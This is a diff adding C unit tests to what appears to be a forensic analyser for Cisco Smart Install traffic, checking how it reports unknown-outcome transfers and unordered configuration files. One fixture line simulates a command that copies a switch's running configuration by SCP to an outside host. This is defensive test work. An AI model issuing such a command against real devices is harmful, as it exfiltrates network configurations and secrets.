@@ -146,6 +146,60 @@ Test(situations, a_file_that_left_is_compared_with_the_digest_that_the_device_re
     }
 }
 
+Test(situations, reasons_say_why_a_transfer_leaves_the_outcome_unknown)
+{
+    static const struct {
+        const char *seen, *reason;
+    } rows[] = {
+        {"m 10 2 A>D backup_request config_exfiltration c=copy_running-config_scp://198.51.100.7/d\nf 10 2 A>D a 1048 0\n"
+         "t 20 5 D>A sealed - s 4242 p=sealed\n",
+         "an encrypted transfer of 4242 bytes between 192.0.2.10 and 198.51.100.7 was seen; its contents are unknown "
+         "(t.pcap packet 3)"},
+        {PUSH "t 20 5 d>a closed my.conf c 700\n",
+         "a file of the name that was commanded, my.conf, moved over another version of IP than the command speaks of: "
+         "whether it is the same file is not known (t.pcap packet 3)"},
+        {PUSH "t 20 5 D>B closed my.conf c 700\n",
+         "a file of the name that was commanded, my.conf, moved between other addresses than were named: "
+         "whether it is the same file is not known (t.pcap packet 3)"},
+    };
+    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
+        struct smini_alloc alloc;
+        struct smini_incident_set *set = NULL;
+        struct situation sample = {"", "", "", rows[i].seen, "", ""};
+        smini_alloc_init(&alloc, 0);
+        cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
+        const struct smini_incident *incident = smini_incident_get(set, 0);
+        cr_expect_eq(incident->outcome, SMINI_OUTCOME_UNKNOWN);
+        cr_expect(says(incident, rows[i].reason), "%s", rows[i].reason);
+        smini_incident_free(&set);
+        cr_assert_eq(alloc.used, 0U);
+    }
+}
+
+Test(situations, a_configuration_that_nobody_was_seen_to_order_is_evidence_at_a_known_device)
+{
+    static const char moved[] = "t 20 5 D>A closed x.conf s 700 y=ios-config\n";
+    static const char told[] = "sent, without a command that was seen, a file of the type ios-config (t.pcap packet 4)";
+    char seen[512];
+    for (int known = 0; known < 2; known++) {
+        struct smini_alloc alloc;
+        struct smini_incident_set *set = NULL;
+        struct situation sample = {"", "", "", seen, "", ""};
+        snprintf(seen, sizeof(seen), "%s%s", known ? PROBE ACTIVE "f 1 1 A>D a 24 24\n" : "", moved);
+        smini_alloc_init(&alloc, 0);
+        cr_assert_eq(feed_situation(&alloc, &sample, &set), SMIN_OK);
+        const struct smini_device *device = smini_incident_device(set, 0);
+        cr_expect_eq(device != NULL, known == 1, "a transfer alone makes no device of Smart Install");
+        if (device)
+            cr_expect(smini_span_equal(device->evidence.items[device->evidence.count - 1], smini_span_text(told)), "%.*s",
+                      (int)device->evidence.items[device->evidence.count - 1].length,
+                      (const char *)device->evidence.items[device->evidence.count - 1].bytes);
+        cr_expect_null(smini_incident_get(set, (uint32_t)known));
+        smini_incident_free(&set);
+        cr_assert_eq(alloc.used, 0U);
+    }
+}
+
 Test(situations, limits_are_kept_and_counted)
 {
     struct smini_alloc alloc;
